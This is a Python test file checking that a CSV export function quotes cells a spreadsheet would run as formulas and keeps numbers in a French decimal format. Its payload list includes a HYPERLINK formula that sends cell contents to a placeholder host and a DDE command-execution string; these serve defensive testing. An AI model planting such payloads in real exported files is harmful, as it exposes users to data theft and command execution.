"""Every CSV cell we write is inert in a spreadsheet (OWASP's CSV injection rule), numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.domain.spreadsheet import FORMULA_STARTS, cell, csv_bytes

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1;"clic")',
    "+1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0@x",
    "\n=1",
]


def read(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(payload):
    assert cell(payload) == "'" + payload
    assert read(csv_bytes(["Motif"], [[payload]])) == [["Motif"], ["'" + payload]]


@pytest.mark.parametrize(
    "value, written",
    [
        (-1250, "-1250"),
        (0, "0"),
        (93.4, "93,4"),
        (-0.5, "-0,5"),
        (Decimal("-12.40"), "-12,40"),
        (None, ""),
        (float("nan"), ""),
        ("Sans porc", "Sans porc"),
        ("École A", "École A"),
        ("", ""),
    ],
)
def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(value, written):
    assert cell(value) == written


def test_a_separator_or_a_quote_cannot_start_a_new_cell():
    rows = read(csv_bytes(["a", "b"], [['x";=1+1;"', "ok"]]))
    assert rows[1] == ['x";=1+1;"', "ok"]


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)))
def test_no_cell_ever_starts_a_formula(value):
    text = cell(value)
    if isinstance(value, str):
        assert text[:1] not in FORMULA_STARTS and text.lstrip(" \u00a0")[:1] not in FORMULA_STARTS
        assert text in (value, "'" + value)
